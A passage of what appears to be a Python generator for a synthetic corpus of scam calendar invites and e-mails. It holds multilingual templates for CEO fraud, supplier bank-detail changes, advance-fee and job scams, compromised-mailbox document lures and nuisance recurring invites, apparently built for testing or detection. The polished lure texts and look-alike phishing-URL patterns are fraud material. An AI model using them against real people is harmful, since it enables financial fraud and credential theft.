BEC = dict(name="bec", title="Business e-mail compromise (CEO fraud, gift cards, bank-detail and payroll changes)",
           clients=ALL_BUT_ZOOM, items=[
    dict(lang="en", desc="CEO gift-card request using the CEO's name (free mail or spoofed own domain)",
         accts=["free", "spoof", "spoof"], dom={"spoof": "{rdom}"}, pre=ceo_name, sname="{ceo}", summary="Quick task",
         body="Hi {first},\n\nAre you at your desk? I need you to handle a small task for me discreetly - I'm in back-"
              "to-back meetings and can't talk. We need to get some gift cards for a few clients today.\nReply to this "
              "email when you see it.\n\n{ceo}\nSent from my iPhone",
         when=dict(days=(0, 0), hour=(9, 16), dur=15)),
    dict(lang="en", desc="Supplier bank-detail change from a look-alike of a real supplier domain",
         accts=["lookalike"], clients=["exchange", "google", "outlook-desktop", "thunderbird", "emclient"],
         pre=lambda c, V: sup_vars(c),
         dom={"lookalike": lambda V: V["sup_look"]},
         vars=lambda c, V: {"iban": c.iban("GB"), "sortc": "%02d-%02d-%02d" % (c.rng.randint(10, 99),
                                                                              c.rng.randint(10, 99),
                                                                              c.rng.randint(10, 99))},
         summary="Updated remittance details - before next payment run",
         body="Dear Accounts Payable,\n\nPlease note that due to an ongoing audit our bank details have changed with "
              "immediate effect. Kindly update your records before the next payment run:\n\nBank: Metro Business "
              "Bank\nAccount name: {supname} Ltd\nSort code: {sortc}\nIBAN: {iban}\n\nPlease confirm once updated. "
              "Let's have a quick call to go over the open invoices.\n\nBest regards,\n{sname}\nCredit Control",
         when=dict(days=(1, 3), hour=(10, 15), dur=30)),
    dict(lang="en", desc="Payroll direct-deposit change from an employee impersonated on free mail", accts=["free"],
         pre=lambda c, V: {"emp": person(c.rng, c.lang)["name"]}, sname="{emp}",
         summary="Direct deposit change",
         body="Hi,\n\nI recently changed banks and would like my salary paid into my new account from this pay period. "
              "What details do you need from me? I'll be in meetings so email is best.\n\nThanks,\n{emp}",
         when=dict(days=(0, 2), hour=(9, 16), dur=15)),
    dict(lang="en", desc="'Confidential acquisition' wire request with fake external counsel",
         accts=["lookalike", "free"], dom={"lookalike": ["kingsley-legal-partners.com", "harrow-wainwright-law.com"]},
         pre=ceo_name, sname="Jonathan Harrow, Esq.",
         summary="Strictly confidential - Project Lighthouse",
         body="{first},\n\nAt the request of {ceo} I am contacting you regarding a confidential acquisition. A deposit "
              "wire has to be sent today before the market closes. {ceo_first} has authorised you to act on this. "
              "Please do not discuss it internally until the announcement.\n\nWe will have a short call to give you "
              "the wire instructions.\n\nJonathan Harrow\nPartner", online="teams",
         when=dict(days=(0, 0), hour=(11, 15), dur=20)),
    dict(lang="en", desc="Overdue-invoice chase with new account from a compromised supplier mailbox (all auth pass)",
         accts=["corp"], clients=["exchange", "google", "outlook-desktop", "zimbra", "thunderbird", "sogo"],
         dom={"corp": ["tradewinds-logistics.com", "greenfield-cpa.com", "hamilton-plumbing.ca",
                       "oakmont-fasteners.com"]}, vars=lambda c, V: {"iban": c.iban("LT")},
         summary="Overdue invoices - payment call",
         body="Hello,\n\nOur records show invoices INV-{num} and INV-{num2} are now 30 days overdue. Please note "
              "payments should now go to our new account as the old one is under review:\n\nIBAN: {iban}\nBIC: "
              "REVOLT21\n\nI have booked a short call to reconcile.\n\nKind regards",
         vars2=lambda c, V, ev: {"num2": c.digits(8)}),
    dict(lang="en", desc="Fake vendor-audit meeting used to stage a wire", accts=["lookalike", "free"],
         dom={"lookalike": lambda V: V["rdom_look"]}, pre=ceo_name, sname="{ceo}",
         summary="Q4 vendor payment review", online="teams",
         body="Please join. We need to release two vendor payments today; I'll send the details during the call. "
              "Keep this between us for now.", when=dict(days=(0, 1), hour=(9, 16), dur=30)),
    dict(lang="en", desc="CEO asks to move to WhatsApp for a confidential project", accts=["free"], pre=ceo_name,
         sname="{ceo}", summary="Confidential",
         body="Hello {first}, I need your help with a confidential project. Please send me your WhatsApp number, "
              "it's urgent.\nRegards,\n{ceo}", when=dict(days=(0, 0), hour=(8, 18), dur=15)),
    dict(lang="de", desc="German CEO-fraud 'confidential takeover' transfer", accts=["free", "lookalike"],
         dom={"lookalike": lambda V: V["rdom_look"]}, pre=ceo_name, sname="{ceo}", charset=["iso-8859-1", "utf-8"],
         summary="Vertrauliche Übernahme – Überweisung heute",
         body="Hallo {first},\n\nwir stehen kurz vor einer vertraulichen Übernahme. Heute muss noch eine Anzahlung "
              "überwiesen werden. Bitte behandeln Sie das streng vertraulich und sprechen Sie intern mit niemandem "
              "darüber. Ich melde mich gleich mit den Details.\n\nViele Grüße\n{ceo}",
         when=dict(days=(0, 0), hour=(9, 15), dur=20)),
    dict(lang="fr", desc="French supplier RIB change with new bank details", accts=["lookalike", "corp"],
         dom={"lookalike": ["transports-lemaire-sas.fr", "imprimerie-duval-fr.com"],
              "corp": ["transports-lemaire.fr", "imprimerie-duval.fr"]},
         charset=["iso-8859-15", "utf-8"], vars=lambda c, V: {"iban": c.iban("FR")},
         summary="Changement de coordonnées bancaires – RIB mis à jour",
         body="Bonjour,\n\nSuite à un changement d'établissement bancaire, merci de bien vouloir utiliser notre nouveau "
              "RIB pour tous les règlements à venir :\nIBAN : {iban}\nBIC : CMCIFRPP\n\nNous restons disponibles pour "
              "un point téléphonique.\n\nCordialement,\nService comptabilité"),
    dict(lang="es", desc="Spanish supplier bank-account change", accts=["lookalike", "corp"],
         dom={"lookalike": ["suministros-iberica-sl.es", "grupo-arandeIa.com.mx"], "corp": ["suministros-iberica.es"]},
         charset=["iso-8859-1", "utf-8"], vars=lambda c, V: {"iban": c.iban("ES")},
         summary="Cambio de cuenta bancaria para próximos pagos",
         body="Estimados:\n\nLes informamos de que a partir de hoy los pagos deben realizarse a nuestra nueva cuenta:\n"
              "IBAN: {iban}\n\nLes agradecemos que actualicen sus datos antes del próximo vencimiento.\n\nUn saludo,\n"
              "Departamento de Administración"),
    dict(lang="ja", desc="Japanese 'urgent and confidential new project' CEO fraud moving to LINE", accts=["free"],
         pre=ceo_name, sname="{ceo}", charset=["iso-2022-jp", "utf-8"],
         summary="【至急・極秘】新規プロジェクトの件",
         body="{first}さん\nお疲れ様です。現在進めている新規プロジェクトの件で、至急ご協力いただきたいことがあります。\n"
              "本件は社内でも極秘事項のため、他言しないようお願いします。\nLINEグループを作成しましたので、QRコードを送って"
              "ください。\n{ceo}", when=dict(days=(0, 0), hour=(9, 17), dur=15)),
    dict(lang="he", desc="Hebrew urgent supplier wire request", accts=["free", "lookalike"],
         dom={"lookalike": lambda V: V["rdom_look"]}, pre=ceo_name, sname="{ceo}", charset=["windows-1255", "utf-8"],
         summary="דחוף – העברה בנקאית לספק",
         body="היי {first},\nצריך לבצע היום העברה דחופה לספק חדש. אני בישיבות ולא זמין בטלפון.\nאשלח פרטים מיד, "
              "נא לא לשתף אף אחד.\n{ceo}", when=dict(days=(0, 0), hour=(9, 15), dur=15)),
    dict(lang="th", desc="Thai urgent deposit transfer request", accts=["free"], pre=ceo_name, sname="{ceo}",
         charset=["tis-620", "utf-8"], summary="ด่วน: โอนเงินมัดจำให้ผู้ขายวันนี้",
         body="สวัสดีคุณ{first}\nรบกวนโอนเงินมัดจำให้ผู้ขายรายใหม่ภายในวันนี้ ผมติดประชุมทั้งวัน กรุณาเก็บเป็นความลับ\n"
              "จะส่งรายละเอียดบัญชีให้ภายหลัง\n{ceo}"),
    dict(lang="ar", desc="Arabic supplier bank-detail update", accts=["lookalike", "free"],
         dom={"lookalike": ["alnoor-trading-llc.com", "gulfstar-supplies.com"]}, charset=["windows-1256", "utf-8"],
         vars=lambda c, V: {"iban": c.iban("AE")},
         summary="تحديث بيانات الحساب البنكي للمورد",
         body="السادة المحترمون،\nنود إعلامكم بأنه تم تغيير حسابنا البنكي. يرجى تحويل جميع المدفوعات القادمة إلى الحساب "
              "الجديد:\nIBAN: {iban}\nمع الشكر،\nقسم الحسابات"),
])

# =====================================================================================================================
ADVANCE = dict(name="advance-fee", title="Advance-fee fraud (inheritance, lottery, compensation, consignment)",
               clients=ALL_BUT_ZOOM + ["zoom"], items=[
    dict(lang="en", desc="Inheritance from a 'deceased client' sharing the recipient's surname", accts=["free"],
         sname="Barr. Richard Okoye", tz="Africa/Lagos",
         summary="Estate of late client - private call",
         body="Dear {rname},\n\nI am Barrister Richard Okoye, personal attorney to a late client who shares your "
              "surname. He died intestate leaving a deposit of US$8.4 million with a bank here. I propose that we "
              "present you as next of kin so that the funds are released to you, to be shared 50/50.\n\nKindly reply "
              "with your full name and direct phone number so we can discuss on the call.\n\nYours faithfully,\n"
              "Barr. Richard Okoye", reply_to=lambda c, V: {"name": "Richard Okoye",
                                                            "addr": "r.okoye.chambers@%s" % pick(c.rng, ["outlook.com",
                                                                                                         "gmx.com"])}),
    dict(lang="en", desc="UN-style COVID compensation payment", accts=["free", "vps"],
         dom={"vps": "un-compensation-{slug}.org"}, sname="UN Compensation Unit",
         summary="Approved compensation payment US$1,500,000",
         body="This is to notify you that your email was selected among the beneficiaries of the Covid-19 "
              "compensation fund. Your payment of US$1,500,000 has been approved. Contact the paying officer Mr. "
              "David Mensah with your full name, address and phone number.",
         online="zoom",
         years=(2020, 2023), reply_to=lambda c, V: {"name": "David Mensah", "addr": "paymentofficer.dm@yahoo.com"}),
    dict(lang="en", desc="Online lottery win notice", accts=["free", "spoof"], dom={"spoof": "euromillions-uk.org"},
         sname="Euro Millions Claims Dept", tz="Europe/London",
         summary="Winning notification - ref EM/{num}/UK",
         body="Congratulations! Your email address won GBP 850,000.00 in our online draw (Ticket 58-33-12-09). To begin "
              "processing, contact our claims agent and quote your reference number. A small processing fee applies.",
         loc="Claims office, London"),
    dict(lang="en", desc="Widow wants to donate her late husband's fund through the recipient", accts=["free"],
         sname="Mrs. Margaret Heller", summary="Charity donation",
         body="Dearest,\n\nI am Mrs. Margaret Heller, suffering from cancer and my doctor says I have a few months. "
              "My late husband left $4.2 million and I want you to use it for charity work. Please reply so my lawyer "
              "can contact you. God bless you.", when=dict(days=(1, 5), hour=(8, 20), dur=30, weekday_only=False)),
    dict(lang="en", desc="Diplomatic 'consignment box' awaiting a release fee", accts=["free"],
         sname="Diplomat James Walker", tz="America/New_York",
         summary="Consignment delivery - JFK",
         body="I am the diplomat in charge of your consignment box valued at $5.7 million, now at JFK airport. The "
              "box will be delivered to your address once the non-inspection certificate fee of $3,750 is paid. "
              "Confirm your address and phone number."),
    dict(lang="ar", desc="Arabic inheritance in the recipient's name", accts=["free"], sname="المحامي سامي العطار",
         charset=["windows-1256", "utf-8"], summary="ميراث بقيمة 8.5 مليون دولار باسمك",
         body="السلام عليكم،\nأنا المحامي سامي العطار. توفي أحد عملائي دون ورثة وترك مبلغ 8.5 مليون دولار. أقترح أن "
              "نقدمك كوريث لتحويل المبلغ إليك ونتقاسمه.\nأرجو الرد مع اسمك الكامل ورقم هاتفك."),
    dict(lang="ru", desc="Russian 'data-leak compensation' with a small fee", accts=["free", "vps"],
         dom={"vps": "kompensaciya-{slug}.ru"}, charset=["koi8-r", "windows-1251", "utf-8"],
         vars=lambda c, V: {"url": c.freehost("komp")}, quirks=["fold-bytes"], summary="Вам положена компенсация 186 000 ₽",
         body="Уважаемый гражданин!\nПо решению фонда защиты персональных данных вам начислена компенсация в размере "
              "186 000 ₽ за утечку ваших данных. Для получения оплатите госпошлину 450 ₽: {url}"),
    dict(lang="hi", desc="Hindi TV-quiz lottery winner", accts=["free"], sname="KBC लॉटरी विभाग",
         summary="KBC लॉटरी विजेता: आपने ₹25,00,000 जीते",
         body="बधाई हो!\nआपका नंबर KBC लकी ड्रॉ में चुना गया है। इनाम राशि ₹25,00,000 प्राप्त करने के लिए हमारे "
              "मैनेजर राणा प्रताप सिंह से WhatsApp पर संपर्क करें: +91 9{n9}\nप्रोसेसिंग शुल्क: ₹12,500",
         vars=lambda c, V: {"n9": rstr(c.rng, 9, "0123456789")}),
    dict(lang="zh", desc="Chinese overseas inheritance claim", accts=["free", "vps"], dom={"vps": "yichan-{slug}.com"},
         charset=["gb2312", "utf-8"], summary="您有一笔海外遗产待领取",
         body="尊敬的先生/女士：\n您的一位远房亲属在海外去世，留下遗产约620万美元。经律师事务所核实，您是唯一合法继承人。\n"
              "请尽快回复您的姓名和联系电话，以便办理手续。"),
    dict(lang="el", desc="Greek inheritance from a distant relative", accts=["free"], sname="Δικηγορικό Γραφείο Νικολάου",
         charset=["iso-8859-7", "utf-8"], summary="Κληρονομιά από μακρινό συγγενή",
         body="Αγαπητέ/ή κύριε/κυρία,\nΕκπροσωπούμε την περιουσία ενός μακρινού συγγενή σας που απεβίωσε στο εξωτερικό. "
              "Παρακαλούμε επικοινωνήστε μαζί μας για τη διαδικασία μεταβίβασης 3,2 εκατ. ευρώ."),
])

# =====================================================================================================================
TASK = dict(name="task-job", title="Task and job scams moving victims to messengers", clients=ALL_BUT_ZOOM + ["zoom"],
            items=[
    dict(lang="en", desc="Remote 'hotel rating' job moving to WhatsApp", accts=["free"], sname="Emily | HR Team",
         summary="Remote part-time role - earn $300/day",
         body="Hello! Our company is hiring remote part-time staff to rate hotels on booking platforms. 60-90 minutes "
              "a day, $300+ daily, paid every day. No experience needed.\nInterested? Message me on WhatsApp: "
              "wa.me/1{n10}", vars=lambda c, V: {"n10": rstr(c.rng, 10, "0123456789")},
         when=dict(days=(0, 2), hour=(9, 20), dur=30, weekday_only=False)),
    dict(lang="en", desc="'Interview scheduled' with a Telegram handle", accts=["free", "lookalike"],
         dom={"lookalike": ["talentbridge-careers.com", "apex-staffing-global.com"]}, sname="Talent Acquisition",
         summary="Interview scheduled: Data Entry Assistant (remote)",
         body="Dear {first},\n\nThank you for your application. Your interview will be conducted via Telegram chat "
              "with our hiring manager Mr. Kevin Blake (@{tg}).\nPlease add him before the interview time.\n\nHR "
              "Department", vars=lambda c, V: {"tg": "hr_" + c.slug(6)}, loc="Telegram @{tg}"),
    dict(lang="en", desc="Product-reviewer onboarding paid in USDT via a real meeting service",
         accts=["corp", "service"], clients=["zoom", "booking", "handrolled"], method="PUBLISH",
         dom={"service": "reviewhub-partners.com", "corp": "reviewhub-partners.com"}, sname="ReviewHub Onboarding",
         years=(2020, 2026), summary="Onboarding webinar: Amazon product reviewer (paid daily in USDT)",
         body="Welcome! In this session we explain how to complete review tasks and withdraw your daily earnings in "
              "USDT. Bring your TRC20 wallet address.", when=dict(days=(1, 3), hour=(10, 19), dur=45)),
    dict(lang="en", desc="Fake-check equipment job via Teams from a free account", accts=["free"],
         sname="Laura Mitchell - HR", online="teams",
         summary="Onboarding call - Remote Customer Service Representative",
         body="Congratulations {first}! You have been selected for the Remote Customer Service Representative "
              "position ($34/hr). During the onboarding call we will send you a check to purchase your home-office "
              "equipment from our approved vendor.\n\nPlease have your bank app ready.",
         when=dict(days=(1, 3), hour=(10, 16), dur=30)),
    dict(lang="en", desc="Social-media 'likes' task job with crypto payouts", accts=["free", "vps"],
         dom={"vps": "taskgrid-{slug}.com"}, summary="50 tasks a day, $2 per task",
         body="Simple online tasks: follow and like videos. Earn $100+ daily. First 3 tasks are a free trial and "
              "paid immediately.\nStart here: {url}", vars=lambda c, V: {"url": "https://t.me/+%s" % c.token(16)},
         loc="{url}"),
    dict(lang="es", desc="Spanish work-from-home WhatsApp recruiting", accts=["free"], sname="Recursos Humanos",
         charset=["iso-8859-1", "utf-8"], summary="Trabajo desde casa: 150 € al día",
         body="Hola {first},\nBuscamos personas para trabajar desde casa 1-2 horas al día. Ganancias de 150 € diarios.\n"
              "Escríbenos por WhatsApp: +34 6{n8}", vars=lambda c, V: {"n8": rstr(c.rng, 8, "0123456789")}),
    dict(lang="pt", desc="Brazilian product-rating side job", accts=["free", "vps"], dom={"vps": "avaliar-{slug}.com.br"},
         tz="America/Sao_Paulo", summary="Vaga de meio período: avalie produtos e ganhe R$ 800 por dia",
         body="Olá!\nEstamos contratando avaliadores de produtos online. Trabalho pelo celular, pagamento diário via "
              "PIX.\nFale com a recrutadora no WhatsApp: +55 11 9{n8}",
         vars=lambda c, V: {"n8": rstr(c.rng, 8, "0123456789")}),
    dict(lang="hi", desc="Hindi 'like YouTube videos' part-time job", accts=["free"], sname="HR टीम",
         summary="पार्ट टाइम जॉब: YouTube वीडियो लाइक करें, ₹3000 प्रतिदिन",
         body="नमस्ते,\nघर बैठे YouTube वीडियो लाइक करके रोज़ ₹3000 तक कमाएँ। पहले 3 टास्क का भुगतान तुरंत।\n"
              "Telegram पर संपर्क करें: @{tg}", vars=lambda c, V: {"tg": "job_" + c.slug(5)}),
    dict(lang="th", desc="Thai online job moving to LINE", accts=["free"], charset=["tis-620", "utf-8"],
         summary="งานออนไลน์ รายได้วันละ 2,000 บาท",
         body="รับสมัครพนักงานทำงานออนไลน์ผ่านมือถือ วันละ 1-2 ชั่วโมง รายได้วันละ 2,000 บาท จ่ายทุกวัน\n"
              "แอดไลน์: @{ln}", vars=lambda c, V: {"ln": c.slug(7)}),
    dict(lang="tr", desc="Turkish work-from-home offer", accts=["free"], charset=["iso-8859-9", "utf-8"],
         summary="Evden çalışma fırsatı: günlük 2.500 TL",
         body="Merhaba,\nGünde 1-2 saat telefonla çalışarak günlük 2.500 TL kazanabilirsiniz. Deneyim gerekmez.\n"
              "Telegram: @{tg}", vars=lambda c, V: {"tg": "is_" + c.slug(6)}),
    dict(lang="zh", desc="Chinese order-brushing side job", accts=["free", "vps"], dom={"vps": "jianzhi-{slug}.cn"},
         charset=["gb2312", "gbk", "utf-8"], summary="兼职刷单 日结300元 加微信",
         body="招聘兼职：手机操作，动动手指，日结300元以上，无需押金。\n有意者请加微信：{wx}",
         vars=lambda c, V: {"wx": "wx" + c.slug(8)}),
])

# =====================================================================================================================
def partner_doc(c, V):
    return {"url": pick(c.rng, [
        "https://%s.sharepoint.com.%s.%s/:b:/g/%s" % (c.slug(6), c.slug(4), pick(c.rng, ["ru", "top", "click"]),
                                                     c.token(20)),
        "https://%s/view?doc=%s" % (pick(c.rng, ["%s.web.app" % c.slug(8), "%s.notion.site" % c.slug(7),
                                                 "www.canva.com/design/DAF%s" % c.token(8)]), c.token(12)),
        "https://1drv.ms/o/s!A%s" % c.token(26), "https://%s.dropboxusercontent.com.%s.com/s/%s" % (
            c.slug(5), c.slug(5), c.token(14))])}


DOCSHARE = dict(name="compromised-doc-share", title="Document-share lures from compromised partner mailboxes",
                clients=ALL_BUT_ZOOM, items=[
    dict(lang="en", desc="'Proposal documents for review' from a hijacked accounting-firm mailbox", accts=["corp"],
         dom={"corp": ["greenfield-cpa.com", "whitaker-advisory.com", "stonebridge-accountants.co.uk"]},
         vars=partner_doc, summary="Proposal documents for review",
         body="Hi,\n\nPlease find the proposal documents for your review via the secure link below. Let's discuss "
              "during the call.\n\n{url}\n\nThanks", when=dict(days=(1, 4), hour=(9, 16), dur=30)),
    dict(lang="en", desc="Purchase-order share from a compromised supplier; link in ATTACH", accts=["corp"],
         dom={"corp": ["oakmont-fasteners.com", "tradewinds-logistics.com", "hamilton-plumbing.ca"]},
         clients=["icloud", "apple-mail", "thunderbird", "sogo", "nextcloud", "evolution", "google"],
         vars=partner_doc, summary="Purchase Order 4500{num} - please confirm",
         body="Please confirm receipt and delivery date.",
         attach=[("{url}", "application/pdf", "PO_4500{num}.pdf")]),
    dict(lang="en", desc="'Signed agreement' share forwarded Outlook-style from a compromised partner",
         accts=["corp"], clients=["exchange", "outlook-desktop"], dom={"corp": ["bellwether-consulting.com",
                                                                             "marlowe-engineering.co.uk"]},
         vars=partner_doc, summary="FW: Signed agreement - countersignature needed",
         body="-----Original Appointment-----\nFrom: Legal\nSubject: Signed agreement\n\nPlease review the signed "
              "agreement and countersign: {url}", when=dict(days=(0, 2), hour=(9, 16), dur=15)),
    dict(lang="en", desc="Fake 'Accepted' reply whose comment carries the statement link, all auth passing",
         accts=["corp"], dom={"corp": COMPROMISED}, vars=partner_doc, summary="Statement of account - {company}",
         clients=["exchange", "google", "outlook-desktop", "thunderbird", "zimbra", "sogo", "nextcloud", "yahoo",
                  "emclient", "apple-mail", "evolution"], att="none",
         fill=lambda c, ev, V: fake_reply(c, ev, V, "ACCEPTED", "Accepted. Updated statement for your review before "
                                                                "the call: {url}")),
    dict(lang="en", desc="Hijacked mailbox forwards a 'signed NDA' invite inline with the .ics attached",
         accts=["free", "corp"], clients=["gmail-web", "thunderbird", "apple-mail", "yahoo"],
         dom={"corp": ["lumenfield-labs.com", "porter-kline.com"]}, vars=partner_doc,
         fwd=dict(orig_clients=["google", "exchange"], orig_accts=["corp"], style="inline",
                  by=lambda m: {"p": person(m.rng, "en", pick(m.rng, ["porter-kline.com", "cabot-legal.com"]),
                                            style="f.l"), "acct": "corp"},
                  note="Hi, see below - please sign at your earliest convenience so we can close this week."),
         summary="NDA review - {company}", body="Hi, as discussed, the NDA is ready for signature: {url}"),
    dict(lang="de", desc="German 'Angebotsunterlagen' share from a compromised firm", accts=["corp"],
         dom={"corp": ["kanzlei-hartmann-steuer.de", "elektro-vogel-gmbh.de"]}, charset=["iso-8859-1", "utf-8"],
         vars=partner_doc, summary="Angebotsunterlagen zur Durchsicht",
         body="Guten Tag,\n\nanbei die Angebotsunterlagen zur Durchsicht über den sicheren Link:\n{url}\n\nMit "
              "freundlichen Grüßen"),
    dict(lang="it", desc="Italian invoice-document share from a compromised studio", accts=["corp"],
         dom={"corp": ["studio-ferri-commercialisti.it", "ceramiche-montelupo.it"]}, charset=["iso-8859-1", "utf-8"],
         vars=partner_doc, summary="Documenti fattura – revisione",
         body="Buongiorno,\nvi inviamo i documenti relativi alla fattura in scadenza. Potete visualizzarli qui: {url}\n"
              "Cordiali saluti"),
    dict(lang="nl", desc="Dutch quote share from a compromised installer", accts=["corp"],
         dom={"corp": ["vandermeer-installatie.nl", "smit-bouw.nl"]}, vars=partner_doc,
         summary="Offerte ter beoordeling", body="Goedemiddag,\n\nDe offerte staat klaar via onderstaande link:\n{url}\n"
                                                 "\nMet vriendelijke groet"),
    dict(lang="pt", desc="Portuguese contract share from a compromised accountant", accts=["corp"],
         dom={"corp": ["contabilidade-sousa.com.br", "quinta-das-amendoeiras.pt"]}, charset=["iso-8859-1", "utf-8"],
         vars=partner_doc, summary="Contrato para assinatura",
         body="Bom dia,\nSegue o contrato para análise e assinatura: {url}\nObrigado"),
    dict(lang="el", desc="Greek shipping-document share from a compromised broker", accts=["corp"],
         dom={"corp": ["piraeus-cargo-agents.gr"]}, charset=["iso-8859-7", "utf-8"], vars=partner_doc,
         summary="Έγγραφα φορτωτικής – προς έλεγχο",
         body="Καλησπέρα σας,\nΣας αποστέλλουμε τα έγγραφα της φορτωτικής για έλεγχο: {url}\nΜε εκτίμηση"),
    dict(lang="ja", desc="Japanese estimate share from a compromised design office", accts=["corp"],
         dom={"corp": ["yamada-kenchiku.co.jp", "kobayashi-shokai.jp"]}, charset=["iso-2022-jp", "utf-8"],
         vars=partner_doc, summary="お見積書のご確認のお願い",
         body="いつもお世話になっております。\nお見積書を共有いたしますので、下記リンクよりご確認ください。\n{url}\n"
              "よろしくお願いいたします。"),
])

# =====================================================================================================================
def far_future(years):
    def f(c, ev, V):
        import datetime as dt
        ev.start = ev.start.replace(year=ev.start.year + years)
        ev.end = ev.end.replace(year=ev.end.year + years)
    return f


def stack_alarms(n):
    def f(c, ev, V):
        ev.alarms = [{"trigger": "-PT%dM" % (i * 3), "desc": ev.summary} for i in range(n)]
    return f


NAG = dict(name="nagging-payload", title="Nagging payloads (endless recurrence, alarm floods, far-future dates)",
           clients=ALL_BUT_ZOOM, items=[
    dict(lang="en", desc="'Device infected' alert repeating daily forever with a stack of alarms",
         accts=["free", "vps"], dom={"vps": "device-cleaner-{slug}.com"},
         vars=lambda c, V: {"url": c.freehost("clean")},
         summary="⚠ Your iPhone is infected with (3) viruses - clean now",
         body="Your device is infected and your data is at risk. Tap to remove the viruses now: {url}",
         url="{url}", rrule="FREQ=DAILY", fill=stack_alarms(12), when=dict(days=(0, 0), hour=(0, 23), dur=15,
                                                                            weekday_only=False)),
    dict(lang="en", desc="Reward reminder recurring every hour with no end", accts=["free", "vps"],
         dom={"vps": "reward-claim-{slug}.com"}, vars=lambda c, V: {"url": c.short()},
         quirks=["lf-ics", "no-fold"], summary="Claim your $1,000 reward", body="Your reward is waiting. Claim it now: {url}", loc="{url}",
         rrule="FREQ=HOURLY;INTERVAL=1", alarms=[{"trigger": "-PT0M"}],
         when=dict(days=(0, 0), hour=(0, 23), dur=5, weekday_only=False)),
    dict(lang="en", desc="Task that is never due, with a repeating alarm", accts=["vps", "free", "corp"],
         clients=["thunderbird", "nextcloud", "handrolled"], dom={"vps": "acct-verify-{slug}.com",
                                                                   "corp": COMPROMISED},
         vars=lambda c, V: {"url": c.freehost("verify")},
         summary="ACTION REQUIRED: confirm your account", body="Confirm now to avoid suspension: {url}",
         fill=lambda c, ev, V: (setattr(ev, "component", "VTODO"), setattr(ev, "due", ev.start.replace(
             year=ev.start.year + 70)), setattr(ev, "alarms", [{"trigger": "-PT1M", "repeat": 99,
                                                                "duration": "PT10M", "desc": ev.summary}]))),
    dict(lang="en", desc="Event dated decades ahead spanning years", accts=["free", "vps"],
         dom={"vps": "reserve-spot-{slug}.com"}, vars=lambda c, V: {"url": c.freehost("spot")},
         summary="Reserve your spot - limited places", body="Limited places left. Reserve now: {url}",
         fill=lambda c, ev, V: (far_future(73)(c, ev, V), setattr(ev, "end", ev.end.replace(year=ev.end.year + 75))),
         when=dict(days=(0, 0), hour=(0, 23), dur=60, weekday_only=False)),
    dict(lang="ko", desc="Korean online-casino ad recurring daily", accts=["free", "vps"],
         dom={"vps": "casino-{slug}.com"}, charset=["euc-kr", "utf-8"],
         vars=lambda c, V: {"url": "https://%s.%s" % (c.slug(6), pick(c.rng, ["com", "net", "xyz"]))},
         summary="온라인 카지노 첫충 100% 보너스", body="신규 가입 시 첫 충전 100% 보너스! 지금 바로 접속: {url}",
         loc="{url}", rrule="FREQ=DAILY", alarms=[{"trigger": "-PT0M"}, {"trigger": "-PT30M"}]),
    dict(lang="th", desc="Thai slot-site ad recurring hourly", accts=["free", "vps"], dom={"vps": "slot-{slug}.com"},
         charset=["tis-620", "utf-8"], vars=lambda c, V: {"url": "https://%s.com" % c.slug(7)},
         summary="สล็อตเว็บตรง แตกง่าย ฝากถอนไม่มีขั้นต่ำ", body="สมัครวันนี้รับโบนัส 100% ทันที {url}",
         rrule="FREQ=HOURLY", url="{url}"),
    dict(lang="tr", desc="Turkish betting-bonus ad with endless recurrence", accts=["free", "vps"],
         dom={"vps": "bonus-{slug}.com"}, charset=["iso-8859-9", "utf-8"],
         vars=lambda c, V: {"url": "https://%s%d.com" % (c.slug(5), c.rng.randint(100, 999))},
         summary="Deneme bonusu 500 TL - hemen üye ol", body="Yatırımsız 500 TL deneme bonusu! Giriş: {url}",
         rrule="FREQ=DAILY;INTERVAL=1", fill=stack_alarms(8)),
    dict(lang="ja", desc="Japanese 'unclaimed points' reminder repeating every 30 minutes", accts=["free", "vps"],
         dom={"vps": "point-{slug}.jp"}, charset=["iso-2022-jp", "utf-8"],
         vars=lambda c, V: {"url": c.freehost("point")},
         summary="【当選】ポイントが未受け取りです", body="50,000ポイントが未受け取りのままです。本日中にお受け取りください。\n{url}",
         rrule="FREQ=MINUTELY;INTERVAL=30", url="{url}"),
])

# =====================================================================================================================
def group_list(c, V):
    name = pick(c.rng, ["staff", "all-staff", "team", "members", "info", "office"])
    return {"kind": "googlegroups", "name": "%s-%s" % (V["company"].split()[0].lower(), name), "domain": "googlegroups.com",
            "munge": True, "footer": True, "prefix": False, "title": V["company"],
            "footer_text": "-- \nYou received this message because you are subscribed to the Google Groups group.\nTo "
                           "unsubscribe from this group and stop receiving emails from it, send an email to "
                           "%s-%s+unsubscribe@googlegroups.com.\n" % (V["company"].split()[0].lower(), name)}


MASS = dict(name="mass-invite", title="Mass invitations to hundreds of unrelated attendees", clients=ALL_BUT_ZOOM,
            items=[
    dict(lang="en", desc="Giveaway invite with about 300 harvested attendees", accts=["free"],
         clients=["google", "exchange", "icloud", "yahoo"], vars=lambda c, V: {"url": c.freehost("giveaway")},
         summary="🎁 You're invited: iPhone 16 giveaway", body="300 winners will be chosen today. Enter here: {url}",
         att=("harvest", (250, 330)), years=(2024, 2026)),
    dict(lang="en", desc="Dating event invite to ~250 strangers from an Outlook.com account", accts=["free"],
         clients=["exchange", "google", "yahoo", "icloud"], vars=lambda c, V: {"url": c.short()},
         summary="Meet singles tonight ❤", body="Free registration, chat with women near you: {url}",
         att=("harvest", (220, 280)), when=dict(days=(0, 1), hour=(19, 22), dur=120, weekday_only=False)),
    dict(lang="en", desc="Sunglasses sale to ~200 attendees from iCloud", years=(2016, 2017), accts=["free"],
         clients=["icloud", "apple-mail"], vars=shop("oakley-sale", ["us.com", "top", "net"]),
         summary="Oakley Sunglasses Only $19.99 Today", body="Big Sale! Oakley sunglasses $19.99, free shipping.\n{url}",
         att=("harvest", (180, 230))),
    dict(lang="en", desc="Crypto webinar pushed to a hijacked Google Group", accts=["free"], clients=["google"],
         vars=lambda c, V: {"url": "https://t.me/+%s" % c.token(16)}, list=group_list,
         summary="FREE crypto signals webinar - 92% win rate", body="Join our VIP signal group: {url}",
         att=("harvest", (90, 160))),
    dict(lang="ru", desc="Russian marketplace-earnings webinar to ~180 attendees", accts=["free"],
         clients=["google", "exchange", "yahoo", "icloud"], charset=["koi8-r", "utf-8"],
         vars=lambda c, V: {"url": c.freehost("webinar")},
         summary="Бесплатный вебинар: заработок на маркетплейсах от 300 000 ₽",
         body="Расскажем, как выйти на доход от 300 000 ₽ в месяц на Wildberries и Ozon. Регистрация: {url}",
         att=("harvest", (150, 210), ["ru", "en"])),
    dict(lang="he", desc="Hebrew voucher 'draw' to ~220 attendees", accts=["free"],
